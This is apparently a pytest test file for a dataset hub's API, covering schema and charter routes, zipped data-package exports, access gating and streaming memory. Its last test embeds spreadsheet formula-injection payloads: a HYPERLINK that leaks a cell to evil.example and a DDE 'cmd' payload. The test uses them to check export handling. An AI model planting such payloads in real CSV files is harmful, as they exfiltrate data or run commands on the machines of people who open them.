"""A dataset's schema, charter and data package: public documents, gated rows, streamed zips."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import frictionless
import polars as pl
import pytest
from api.support import FIELDS, VALID_ROWS, air_batch, bearer, frame_of, observation_rows
from api.test_api_records import (  # noqa: F401 (fixtures)
    ALICE,
    BOB,
    CURVES,
    keyed,
    quakes,
    subjects,
)
from sqlmodel import Session, select

from hub import catalogue, reading
from hub.api import exports
from hub.catalogue import publish
from hub.config import get_settings
from hub.models import AccessEvent

API = "/api/v1/datasets"
MEMBERS = {"datapackage.json", "schema.json", "charter.json", "data/records.csv"}


def unzip(response, folder: Path) -> Path:
    """The package of a response, extracted; its datapackage.json."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert set(archive.namelist()) == MEMBERS
        assert archive.testzip() is None
        archive.extractall(folder)
    return folder / "datapackage.json"


def rows_of(package: Path) -> list[dict[str, str]]:
    text = (package.parent / "data" / "records.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def assert_valid(package: Path) -> None:
    report = frictionless.validate(str(package))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


# --- schema and charter ----------------------------------------------------------------------


def test_the_schema_route_gives_the_table_schema_the_records_are_stored_under(client, published):
    for dataset_id in (published.open_id, *published.closed.values()):
        response = client.get(f"{API}/{dataset_id}/schema")  # metadata: public everywhere
        assert response.status_code == 200
        schema = response.json()
        assert schema["name"] == "air-quality-observation"
        assert [f["name"] for f in schema["fields"]] == FIELDS
        assert schema["hub"]["time"] == "observed_at"
        assert schema["primaryKey"] == ["station_id", "pollutant", "observed_at"]
    assert client.get(f"{API}/no-such-dataset/schema").status_code == 404


def test_the_dataset_links_to_its_schema_charter_and_package(client, published):
    links = client.get(f"{API}/{published.open_id}").json()["links"]
    assert links["schema"] == f"http://testserver{API}/{published.open_id}/schema"
    for name in ("schema", "charter", "datapackage"):
        assert client.get(links[name]).status_code == 200, name


def test_the_charter_route_gives_its_public_terms(client, published):
    body = client.get(f"{API}/{published.open_id}/charter").json()
    assert body["id"] == "atmo-demo-open" and body["version"] == "1.0"
    assert body["access"] == "open" and body["licence"]["id"] == "etalab-2.0"
    assert body["mandatory_mention"] == "Source: Atmo Demo, demonstration air-quality observatory"
    assert body["valid_from"] == "2026-01-01" and body["valid_until"] == "2030-12-31"
    assert body["purposes"] == ["public-information", "research", "service-development"]
    assert body["in_force"] is True and body["personal_data"] is None


@pytest.mark.parametrize("level", ["restricted", "crisis"])
def test_a_charter_never_shows_who_it_is_restricted_to(client, published, level):
    response = client.get(f"{API}/{published.closed[level]}/charter")
    assert response.status_code == 200
    body = response.json()
    assert body["access"] == level and body["id"] == f"atmo-demo-{level}"
    assert "restricted_to" not in body
    assert "metropole-civil-protection" not in response.text
    assert "role:crisis-cell" not in response.text


def test_a_personal_charter_says_how_subjects_are_matched(client, subjects):  # noqa: F811
    body = client.get(f"{CURVES}/charter").json()
    assert body["access"] == "personal" and body["gdpr_sensitive"] is True
    terms = body["personal_data"]
    assert {k: v for k, v in terms.items() if k != "matching_data"} == {
        "subject_field": "subject_key",
        "legal_basis": "consent",
        "matching_url": "http://127.0.0.1:8765/matching",
        "retention_days": 730,
        "min_group_size": 10,
    }
    meter, postcode = terms["matching_data"]
    assert meter["code"] == "meter_number" and meter["pattern"] == "^[0-9]{14}$"
    assert meter["required"] is True and meter["label"]["fr"].startswith("Numéro de point")
    assert meter["help"]["en"].startswith("The 14 digits")
    assert postcode == {
        "code": "postcode",
        "label": {"fr": "Code postal du logement", "en": "Postcode of the home"},
        "help": None,
        "type": "string",
        "pattern": "^[0-9]{5}$",
        "required": True,
    }
    assert body["version"] == "2.0" and body["signed"]["date"] == "2026-10-15"


# --- the data package -----------------------------------------------------------------------------


def test_a_package_of_real_samples_passes_frictionless_validate(client, sampled, tmp_path):
    for dataset_id in sampled:
        package = unzip(client.get(f"{API}/{dataset_id}/datapackage.zip"), tmp_path / dataset_id)
        assert_valid(package)
        descriptor = json.loads(package.read_text(encoding="utf-8"))
        detail = client.get(f"{API}/{dataset_id}").json()
        assert descriptor["title"] == detail["title"]
        assert descriptor["description"] == detail["description"]
        assert descriptor["licenses"][0]["path"] == detail["licence"]["url"]
        assert descriptor["resources"][0]["schema"] == "schema.json"
        assert len(rows_of(package)) == detail["record_count"] > 0
        charter = json.loads((package.parent / "charter.json").read_text(encoding="utf-8"))
        assert charter["id"] == detail["charter"]["id"]
        assert charter["mandatory_mention"] == detail["charter"]["mandatory_mention"]


def test_a_package_of_integers_booleans_and_empty_cells_passes_too(
    client,
    quakes,  # noqa: F811
    tmp_path,
):
    package = unzip(client.get(f"{API}/{quakes}/datapackage.zip"), tmp_path)
    assert_valid(package)
    rows = rows_of(package)
    assert len(rows) == 233 and {r["tsunami"] for r in rows} == {"false"}
    assert "" in {r["felt"] for r in rows}  # empty cells, as the schema's missingValues say
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    assert "name" not in descriptor["licenses"][0]  # a custom licence: its title and path


def test_the_package_holds_every_record_its_schema_and_its_charter(client, published, tmp_path):
    response = client.get(f"{API}/{published.open_id}/datapackage.zip")
    assert f'filename="{published.open_id}.zip"' in response.headers["content-disposition"]
    package = unzip(response, tmp_path)
    assert_valid(package)
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    assert descriptor["name"] == published.open_id
    assert descriptor["licenses"] == [
        {
            "path": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
            "title": "Licence Ouverte / Open Licence 2.0 (Etalab)",
            "name": "etalab-2.0",
        }
    ]
    assert descriptor["hub"]["charter"] == "charter.json"
    rows = rows_of(package)
    assert len(rows) == VALID_ROWS and list(rows[0]) == FIELDS
    api_rows = client.get(f"{API}/{published.open_id}/records?limit=10000").json()["records"]
    assert [r["station_id"] for r in rows] == [r["station_id"] for r in api_rows]
    schema = json.loads((tmp_path / "schema.json").read_text(encoding="utf-8"))
    assert schema["name"] == "air-quality-observation" and schema["missingValues"] == [""]
    alias = client.get(f"{API}/{published.open_id}/export.zip")
    assert alias.status_code == 200 and len(alias.content) > 0


def test_the_data_member_is_written_as_a_stream(client, published):
    content = client.get(f"{API}/{published.open_id}/datapackage.zip").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        data = archive.getinfo("data/records.csv")
        assert data.flag_bits & 0x08  # sizes after the data: written without seeking back
        assert data.compress_type == zipfile.ZIP_DEFLATED
        assert archive.namelist()[0] == "datapackage.json"


def test_filters_narrow_a_package_and_unknown_ones_are_refused(client, published, tmp_path):
    url = f"{API}/{published.open_id}/datapackage.zip"
    package = unzip(client.get(f"{url}?station_id=st-a&from=2026-03-01T12:00:00Z"), tmp_path)
    assert_valid(package)
    rows = rows_of(package)
    assert {r["station_id"] for r in rows} == {"st-a"} and len(rows) == 2 * 12
    for query, words in (
        ("?station=st-a", "unknown parameter 'station'"),
        ("?value__gte=high", "is not a finite number"),
        ("?from=soon", "is not an ISO 8601"),
        ("?bbox=1,2,3", "4 comma-separated numbers"),
        ("?limit=5", "unknown parameter 'limit'"),
    ):
        response = client.get(url + query)
        assert response.status_code == 400 and words in response.json()["detail"], query


def test_a_package_has_only_the_rows_its_caller_may_read(client, engine, published, tmp_path):
    url = f"{API}/{published.closed['restricted']}/datapackage.zip"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=bearer(engine, "agency", "elsewhere")).status_code == 403
    member = bearer(engine, "agency", "metropole-civil-protection")
    package = unzip(client.get(url, headers=member), tmp_path)
    assert len(rows_of(package)) == VALID_ROWS
    with Session(engine) as session:
        events = session.exec(
            select(AccessEvent).where(AccessEvent.dataset_id == published.closed["restricted"])
        ).all()
    outcomes = [(e.outcome, e.route) for e in events]
    assert ("granted", f"GET {url}") in outcomes and ("denied", f"GET {url}") in outcomes


def test_a_subjects_package_holds_their_rows_only(client, subjects, tmp_path):  # noqa: F811
    assert client.get(f"{CURVES}/datapackage.zip").status_code == 401
    package = unzip(client.get(f"{CURVES}/datapackage.zip", headers=subjects["alice"]), tmp_path)
    assert_valid(package)
    rows = rows_of(package)
    assert len(rows) == 6 and {r["subject_key"] for r in rows} == {keyed(ALICE)}
    sneaky = client.get(
        f"{CURVES}/datapackage.zip?subject_key={keyed(BOB)}", headers=subjects["alice"]
    ).content
    with zipfile.ZipFile(io.BytesIO(sneaky)) as archive:
        data = archive.read("data/records.csv").decode()
    assert keyed(BOB) not in data and data.count("\n") == 1  # the header alone


def test_downloads_over_the_export_limit_are_a_clear_400(client, published, monkeypatch):
    monkeypatch.setenv("HUB_MAX_EXPORT_ROWS", "10")
    get_settings.cache_clear()
    for url in (
        f"{API}/{published.open_id}/datapackage.zip",
        f"{API}/{published.open_id}/records?format=csv",
        f"{API}/{published.open_id}/records?format=geojson",
    ):
        response = client.get(url)
        assert response.status_code == 400
        detail = response.json()["detail"]
        assert f"{VALID_ROWS} rows" in detail and "HUB_MAX_EXPORT_ROWS" in detail
    narrowed = "station_id=st-a&pollutant=no2&to=2026-03-01T10:00:00Z"
    assert client.get(f"{API}/{published.open_id}/datapackage.zip?{narrowed}").status_code == 200
    assert client.get(f"{API}/{published.open_id}/records?{narrowed}&format=csv").status_code == 200
    capped = client.get(f"{API}/{published.open_id}/records?format=csv&limit=5")
    assert capped.status_code == 200 and capped.text.count("\n") == 6


# --- memory ---------------------------------------------------------------------------------


def many_observations(stations: int, hours: int) -> pl.DataFrame:
    """`stations` × `hours` × 2 pollutants of hourly observations."""
    start = datetime(2025, 1, 1, tzinfo=UTC)
    rows = [
        {
            "station_id": f"s{station:03d}",
            "station_name": f"Station number {station}",
            "pollutant": pollutant,
            "value": f"{(station * 7 + hour) % 90}.5",
            "unit": "µg/m³",
            "averaging_period": "PT1H",
            "observed_at": f"{start + timedelta(hours=hour):%Y-%m-%dT%H:%M:%SZ}",
            "longitude": f"{-1.7 + station / 1000:.4f}",
            "latitude": f"{48.1 + station / 1000:.4f}",
            "quality_flag": "unverified",
        }
        for hour in range(hours)
        for station in range(stations)
        for pollutant in ("no2", "pm25")
    ]
    return frame_of(rows)


def export_peak(engine, dataset_id: str, criteria: reading.Criteria) -> tuple[int, int, int]:
    """The bytes of a package streamed to nowhere, its pieces, and the peak memory traced."""
    tracemalloc.start()
    try:
        with Session(engine) as session:
            dataset = catalogue.get(session, dataset_id)
            download = reading.stream_records(session, dataset, reading.Caller(), criteria, None)
            descriptor = catalogue.resource_of(session, dataset_id).schema_descriptor
            members = exports.package_members(
                session, dataset, "http://hub.test/", descriptor, download
            )
            size = pieces = 0
            for piece in exports.zipped(members, (2026, 1, 1, 0, 0, 0)):
                size, pieces = size + len(piece), pieces + 1
        return size, pieces, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_an_export_holds_one_page_at_a_time_not_the_dataset(engine, monkeypatch):
    monkeypatch.setattr(reading, "STREAM_PAGE", 500)
    publish(
        air_batch("many", "atmo-demo-open", "Many rows", many_observations(40, 500)),
        engine=engine,
    )  # 40 000 rows
    half = reading.Criteria(filters=(("observed_at__lt", "2025-01-11T10:00:00Z"),))  # 20 000
    export_peak(engine, "many", reading.Criteria(filters=(("station_id", "s000"),)))  # warm up
    small_size, _, small_peak = export_peak(engine, "many", half)
    size, pieces, peak = export_peak(engine, "many", reading.Criteria())
    assert size > 1.8 * small_size and pieces > 1
    # twice the rows, not twice the memory: what is held is a page, not the export
    assert peak < 1.3 * small_peak + 256_000, (small_peak, peak)
    # a record held in memory takes kilobytes: under 100 bytes a row, the rows are not held
    assert peak < 40_000 * 100, peak


# --- cells that look like spreadsheet formulas -------------------------------------------------

FORMULAS = {
    "station_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "station_name": "+cmd|' /C calc'!A0",
}


def test_csv_cells_stay_exact_and_the_package_says_how_to_open_them(client, engine, tmp_path):
    """Formula-looking text and negative numbers are written as the data holds them (README:
    no quote is put before them); the package tells spreadsheet users to import, not open."""
    first, second = observation_rows().head(2).drop("_row").to_dicts()
    rows = [{**first, **FORMULAS}, {**second, "station_id": "@SUM(1+1)"}]
    publish(air_batch("formula-air", "atmo-demo-open", "Formulas", frame_of(rows)), engine=engine)
    written = client.get(f"{API}/formula-air/records?format=csv").text
    read = list(csv.DictReader(io.StringIO(written)))
    assert [r["station_id"] for r in read] == [FORMULAS["station_id"], "@SUM(1+1)"]
    assert read[0]["station_name"] == FORMULAS["station_name"]
    assert {r["longitude"] for r in read} == {"-1.68"}  # a negative number stays one
    package = unzip(client.get(f"{API}/formula-air/datapackage.zip"), tmp_path)
    assert_valid(package)
    assert rows_of(package) == read
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    assert descriptor["resources"][0]["description"] == exports.SPREADSHEET_NOTE
    assert "Do not open this CSV directly in a spreadsheet" in exports.SPREADSHEET_NOTE
    ckan = client.get(
        "/api/3/action/datastore_search",
        params={"resource_id": "formula-air-records", "records_format": "csv"},
    ).json()["result"]["records"]
    cells = [row[0] for row in csv.reader(io.StringIO(ckan))]
    assert FORMULAS["station_id"] in cells and "@SUM(1+1)" in cells
